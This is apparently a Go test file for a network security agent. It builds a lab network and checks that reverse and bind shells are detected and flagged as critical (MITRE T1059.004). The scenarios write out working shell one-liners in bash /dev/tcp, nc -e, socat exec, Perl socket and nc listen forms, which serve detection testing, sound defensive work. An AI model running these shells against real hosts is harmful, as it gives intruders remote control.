package lateral_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/demarc/demarc/agent/detect"
	"github.com/demarc/demarc/test/netlab"
)

// dials is where the workloads of these tests may go, and be called, and so where
// intruders go: nothing is refused.
const (
	dials = "  - {name: dials, from: [zone/edge], to: [network/target], ports: [tcp/4000-4099, tcp/22, udp/53, icmp/echo], identity: none, log: all}\n"
	calls = "  - {name: calls, from: [network/target], to: [zone/edge], ports: [tcp/7000-7099], identity: none, limit: {connections: 100/s}, log: all}\n"
)

// intruder waits for a shell on a port of the other machine, and tells it to say
// something.
func (r *run) intruder(port int) *netlab.Process {
	r.t.Helper()
	p := r.targets[0].Start(r.lab.lab.Cgroup("target"), netlab.Command{Path: lookPath(r.t, "sh"),
		Args: []string{"-c", fmt.Sprintf(`(echo 'echo arr""ived'; sleep 60) | nc.openbsd -n -v -l %d`, port)}})
	r.soon(fmt.Sprintf("nc listens on %d", port), func() bool { return strings.Contains(p.Output(), "Listening on") })
	return p
}

// Somebody outside gets a shell in a workload, by a connection that the policy
// allows. That he does is seen at his end.
func TestShells(t *testing.T) {
	reverse := func(port int, tool string, args ...string) func(*run) {
		return func(r *run) {
			p := r.intruder(port)
			for i, a := range args {
				args[i] = strings.NewReplacer("TARGET", r.targets[0].IP4.String(), "PORT", fmt.Sprint(port)).Replace(a)
			}
			r.tool(tool, args...)
			r.soon(tool+" gives a shell", func() bool { return strings.Contains(p.Output(), "arrived") })
		}
	}
	const prompt = 20 * time.Second
	scenarios := quick([]scenario{
		{"bash -i >& /dev/tcp/...", reverse(4001, "bash", "-c", "bash -i >& /dev/tcp/TARGET/PORT 0>&1"), "T1059.004", "shell", detect.Critical, "bash", prompt, false},
		{"nc -e /bin/sh", reverse(4002, "nc.traditional", "-e", "/bin/sh", "TARGET", "PORT"), "T1059.004", "shell", detect.Critical, "sh", prompt, false},
		{"socat tcp exec, nofork", reverse(4003, "socat", "TCP:TARGET:PORT", "EXEC:/bin/sh,nofork"), "T1059.004", "shell", detect.Critical, "sh", prompt, true},
		{"perl opens a shell", reverse(4006, "perl", "-e", `use Socket; socket(S,PF_INET,SOCK_STREAM,0); connect(S,sockaddr_in(PORT,inet_aton("TARGET"))) or die; open(STDIN,"<&S"); open(STDOUT,">&S"); exec("/bin/sh")`),
			"T1059.004", "shell", detect.Critical, "sh", prompt, true},
		{"nc -l -e /bin/sh", func(r *run) {
			r.tool("nc.traditional", "-l", "-p", "7001", "-e", "/bin/sh")
			p := r.targets[0].Start(r.lab.lab.Cgroup("target"), netlab.Command{Path: lookPath(t, "sh"), Args: []string{"-c",
				`for i in 1 2 3 4 5 6 7 8 9; do (echo 'echo arr""ived'; sleep 10) | nc.openbsd $0 7001; sleep 1; done`, r.host.IP4.String()}})
			r.soon("nc gives a shell", func() bool { return strings.Contains(p.Output(), "arrived") })
		}, "T1059.004", "shell", detect.Critical, "sh", prompt, true},
	})
	var workloads []string
	for i := range scenarios {
		workloads = append(workloads, workloadOf(i))
	}
	l := newLab(t, 1, workloads, dials+calls, netlab.NodeOptions{})
	runAll(t, scenarios, func(i int, _ *scenario) *run { return &run{lab: l, workload: workloads[i]} })
}
